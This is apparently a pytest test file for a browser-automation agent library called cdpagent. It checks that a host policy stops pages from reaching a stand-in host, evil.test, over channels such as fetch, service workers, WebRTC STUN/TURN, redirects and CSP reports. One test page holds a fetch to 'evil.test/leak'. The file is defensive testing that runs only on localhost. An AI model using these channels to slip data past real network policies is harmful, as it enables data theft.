"""Ways out: what a page and an agent can send where the policy does not let them. Everything stays on this machine."""

from __future__ import annotations

import socket
from contextlib import asynccontextmanager
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
import trio

import cdpagent
from tests import chrome as chrome_of_tests
from tests.local import LOCAL_NAMES
from tests.shared import until
from tests.site import Request, Response

if TYPE_CHECKING:
    from collections.abc import AsyncIterator, Callable
    from contextlib import AbstractAsyncContextManager

    from tests.site import Site

    Launch = Callable[..., AbstractAsyncContextManager[cdpagent.Browser]]

WAYS_OUT = Path(__file__).with_name("ways_out.js").read_text("utf-8")
BARE = (
    "preconnect", "stun", "turn_tcp", "web_transport", "https", "wss", "by_number", "ipv6", "localhost",
)  # fmt: skip
TEST_NAMES = (
    f"--host-resolver-rules=MAP *.test 127.0.0.1, MAP * ~NOTFOUND, {', '.join(f'EXCLUDE {n}' for n in LOCAL_NAMES)}"
)
# These need a page in which nothing else goes on.
QUIET_PAGE = (
    "form_get", "form_post", "meta_refresh", "stun", "turn_tcp", "worker", "worker_import", "worker_socket",
)  # fmt: skip
# These are refused by Chrome itself: the first is a way of old versions, the second and third need what a test has not.
NOWHERE = {"prerender", "speculation", "ipv6"}
# What the documents say that a policy can't stop in a browser that was not launched by us.
OF_ATTACHED = {
    "preconnect", "service_worker", "shared_worker", "stun", "turn_tcp", "web_socket", "web_transport",
    "worker_socket", "wss",
}  # fmt: skip
# What is sent first by a tab that a page opens may be faster than we are, or not.
OF_ATTACHED_AT_TIMES = {"link", "link_noopener", "window_open", "favicon.ico"}
_NAMES = {"good.test", "evil.test", "also.good.test"}


class Catcher:
    """Ports of this machine to which nothing may come, and what came all the same."""

    def __init__(self) -> None:
        self.port = 0
        """Where the ways that have a path lead."""
        self.ports: dict[str, int] = {}
        """Where each way without a path leads."""
        self.arrived: set[str] = set()

    async def _take(self, name: str, stream: trio.SocketStream) -> None:
        async with stream:
            if name:
                self.arrived.add(name)
                return
            head = b""
            with trio.move_on_after(5):
                while b"\r\n" not in head:
                    piece = await stream.receive_some()
                    if not piece:
                        break
                    head += piece
            if head:
                self.arrived.add(head.split(b" ")[1].decode().strip("/").partition("?")[0])
                answer = b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"
                await stream.send_all(answer)

    async def _take_datagrams(self, name: str, opened: trio.socket.SocketType) -> None:
        with opened:
            while True:
                await opened.recvfrom(2048)
                self.arrived.add(name)


@asynccontextmanager
async def open_catcher() -> AsyncIterator[Catcher]:
    """Listen for TCP, and on the same numbers for UDP."""
    catcher = Catcher()
    async with trio.open_nursery() as nursery:
        for name in ("", *BARE):

            async def take(stream: trio.SocketStream, name: str = name) -> None:
                try:
                    await catcher._take(name, stream)
                except (OSError, trio.BrokenResourceError):
                    pass

            (listener,) = await nursery.start(partial(trio.serve_tcp, take, 0, host="127.0.0.1"))
            port = listener.socket.getsockname()[1]
            if name:
                catcher.ports[name] = port
                datagrams = trio.socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                await datagrams.bind(("127.0.0.1", port))
                nursery.start_soon(catcher._take_datagrams, name, datagrams)
            else:
                catcher.port = port
        yield catcher
        nursery.cancel_scope.cancel()


class Names(trio.abc.HostnameResolver):
    """Leads the names of these tests to this machine, whoever asks; no other name is asked of anybody."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.addresses: dict[str, list[str]] = {}

    async def getaddrinfo(
        self, host: Any, port: Any, family: int = 0, type: int = 0, proto: int = 0, flags: int = 0
    ) -> Any:
        await trio.lowlevel.checkpoint()
        name = host.decode() if isinstance(host, bytes) else str(host)
        self.asked.append(name)
        if name not in _NAMES and name not in self.addresses and name != "localhost":
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        addresses = self.addresses.get(name, ["127.0.0.1"])
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, int(port))) for address in addresses]

    async def getnameinfo(self, sockaddr: Any, flags: int) -> Any:
        raise NotImplementedError


@pytest.fixture
async def names() -> AsyncIterator[Names]:
    """Names that lead to this machine, for all that resolves names in this run of Trio."""
    resolver = Names()
    before = trio.socket.set_custom_hostname_resolver(resolver)
    yield resolver
    trio.socket.set_custom_hostname_resolver(before)


def prepare(site: Site) -> str:
    """Add what the ways out need from a site that may be reached; return its page's URL."""

    def redirect(request: Request) -> Response:
        return Response(status=302, headers={"Location": request.query["to"]})

    def reporting(request: Request) -> Response:
        policy = f"default-src 'none'; report-uri {request.query['to']}"
        return Response("<img src=/blocked>", headers={"Content-Security-Policy": policy})

    def service_worker(request: Request) -> Response:
        code = f"fetch('{request.query['to']}', {{ mode: 'no-cors' }})"
        return Response(code, "text/javascript", headers={"Service-Worker-Allowed": "/"})

    site.add("/redirect", redirect)
    site.add("/reporting", reporting)
    site.add("/service-worker", service_worker)
    site.add("/start", "<title>start</title><body></body>")
    return site.url("/start", "good.test")


async def try_all(page: cdpagent.Page, catcher: Catcher, only: list[str] | None = None) -> list[str]:
    """Have the page try every way, or some, and return their names."""
    tried: list[str] = await page.evaluate(WAYS_OUT, f"http://evil.test:{catcher.port}", catcher.ports, only)
    return tried


def secure(site: Site) -> list[str]:
    """The switch that gives a page of the site what only secure pages have."""
    return [
        TEST_NAMES,
        f"--unsafely-treat-insecure-origin-as-secure=http://good.test:{site.port}",
        "--allow-loopback-in-peer-connection",
    ]


async def test_without_a_policy_the_ways_are_ways(launch: Launch, site: Site) -> None:
    """Otherwise the next tests would show nothing."""
    async with open_catcher() as catcher, launch(args=secure(site)) as browser:
        page = await browser.new_page(prepare(site))
        tried = set(await try_all(page, catcher, [*QUIET_PAGE]))
        await until(lambda: tried <= catcher.arrived)
        tried |= set(await try_all(page, catcher))
        assert len(tried) >= 60
        await until(lambda: tried - catcher.arrived <= NOWHERE)


async def test_of_a_launched_browser_nothing_arrives(launch: Launch, site: Site, names: Names) -> None:
    policy = cdpagent.Policy(allow_hosts=["good.test"], allow_private=True)
    async with open_catcher() as catcher, launch(args=secure(site), policy=policy) as browser:
        page = await browser.new_page(prepare(site))
        await try_all(page, catcher)
        refused = {
            ("evil.test", catcher.port),
            *(("127.0.0.1", catcher.ports[each]) for each in ("https", "wss", "by_number")),
        }
        await until(
            lambda: refused <= {(each.goal.host, each.goal.port) for each in browser._chrome.refusals._by_goal.values()}
        )
        with pytest.raises(cdpagent.PolicyError, match="allow_hosts does not name evil.test"):
            await page.open(f"http://evil.test:{catcher.port}/opened")
        with pytest.raises(cdpagent.PolicyError):
            await page.open(f"view-source:http://evil.test:{catcher.port}/viewed")
        async with browser.new_context() as context:
            other = await context.new_page(site.url("/start", "good.test"))
            await other.evaluate(
                "url => fetch(url, {mode: 'no-cors'}).catch(() => 0)", f"http://evil.test:{catcher.port}/context"
            )
        await page.open(site.url("/start", "good.test"), wait="stable")
        assert catcher.arrived == set()
        assert set(names.asked) == {"good.test"}


async def test_of_an_attached_browser_what_the_documents_say_arrives(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    flags = [each for each in chrome_of_tests.FLAGS if "resolver" not in each]
    monkeypatch.setattr(chrome_of_tests, "FLAGS", (*flags, *secure(site), "--disable-popup-blocking"))
    policy = cdpagent.Policy(allow_hosts=["good.test"], allow_private=True)
    async with (
        open_catcher() as catcher,
        chrome_of_tests.open_chrome(tmp_path / "profile") as chrome,
        cdpagent.attach(chrome.port, policy=policy) as browser,
    ):
        page = await browser.new_page(prepare(site))
        await try_all(page, catcher, [*OF_ATTACHED])
        await until(lambda: catcher.arrived >= OF_ATTACHED)
        await try_all(page, catcher)
        with pytest.raises(cdpagent.PolicyError, match="allow_hosts does not name evil.test"):
            await page.open(f"http://evil.test:{catcher.port}/opened")
        await page.open(site.url("/start", "good.test"), wait="stable")
        assert catcher.arrived <= OF_ATTACHED | OF_ATTACHED_AT_TIMES


async def test_a_name_that_leads_to_this_machine_is_refused_whatever_it_is_called(
    launch: Launch, site: Site, names: Names
) -> None:
    async with launch(policy=cdpagent.Policy(allow_private=False)) as browser:
        page = await browser.new_page()
        for host in ("good.test", "127.0.0.1", "[::1]", "localhost", "127.1", "0x7f000001"):
            with pytest.raises(cdpagent.PolicyError, match="not an address of the public network") as caught:
                await page.open(f"http://{host}:{site.port}/")
            assert caught.value.rule == "allow_private"
    assert site.requests == []


async def test_a_redirect_to_what_is_refused_is_a_policy_error(launch: Launch, site: Site, names: Names) -> None:
    prepare(site)
    async with launch(policy=cdpagent.Policy(allow_hosts=["good.test"], allow_private=True)) as browser:
        page = await browser.new_page()
        for scheme in ("http", "https"):
            with pytest.raises(cdpagent.PolicyError, match="allow_hosts does not name evil.test"):
                await page.open(site.url(f"/redirect?to={scheme}://evil.test:{site.port}/x", "good.test"))


async def test_what_was_refused_is_in_the_receipt_and_in_the_logs(
    launch: Launch, site: Site, names: Names, caplog: pytest.LogCaptureFixture
) -> None:
    url = f"http://evil.test:{site.port}/leak"
    site.add("/page", f"<button onclick=\"fetch('{url}').catch(() => 0)\">Send</button>")
    policy = cdpagent.Policy(deny_hosts=["evil.test"], allow_private=True)
    async with launch(policy=policy) as browser:
        page = await browser.new_page(site.url("/page", "good.test"))
        result = await page.click("button")
        assert "blocked_by_policy: deny_hosts" in result.text
        (request,) = [each for each in page.requests if each.url == url]
        assert request.failure == "blocked_by_policy: deny_hosts"
    assert "the policy refused evil.test" in caplog.text


async def test_a_policy_stands_in_front_of_the_users_own_proxy(launch: Launch, site: Site) -> None:
    site.add("/a", "<title>by proxy</title>")
    proxy = f"http://127.0.0.1:{site.port}"
    policy = cdpagent.Policy(allow_hosts=["nowhere.test"])
    async with launch(proxy=proxy, policy=policy) as browser:
        page = await browser.new_page("http://nowhere.test/a")
        assert await page.title() == "by proxy"
        with pytest.raises(cdpagent.PolicyError):
            await page.open("http://elsewhere.test/a")
        async with browser.new_context(proxy=proxy) as context:
            other = await context.new_page("http://nowhere.test/a")
            assert await other.title() == "by proxy"
            await other.evaluate("fetch('http://elsewhere.test/b', {mode: 'no-cors'}).catch(() => 0)")
    assert {each.head.split(b" ")[1] for each in site.requests} <= {
        b"http://nowhere.test/a",
        b"http://nowhere.test/favicon.ico",
    }


async def test_downloads_and_uploads_that_are_not_allowed(launch: Launch, site: Site, tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    policy = cdpagent.Policy(downloads=False, uploads=False)
    async with launch(policy=policy, downloads_dir=tmp_path / "downloads") as browser:
        page = await browser.new_page(site.add("/form", "<input type=file>"))
        with pytest.raises(cdpagent.PolicyError) as caught:
            await page.upload("input", [tmp_path / "file"])
        assert caught.value.rule == "uploads"
        navigation = await page.open(site.url("/download?name=report.txt&size=10"))
        assert navigation.download is not None
        with pytest.raises(cdpagent.PolicyError) as caught:
            await navigation.download.path()
        assert caught.value.rule == "downloads"
    assert list((tmp_path / "downloads").iterdir()) == []


@pytest.mark.parametrize("switch", ["--proxy-server=http://127.0.0.1:1", "-no-proxy-server", "--proxy-bypass-list=*"])
async def test_a_switch_that_leads_around_the_policy_is_refused(switch: str) -> None:
    with pytest.raises(ValueError, match="would lead around the policy"):
        async with cdpagent.launch(args=[switch], policy=cdpagent.Policy(allow_hosts=["a.test"])):
            raise AssertionError("it started")
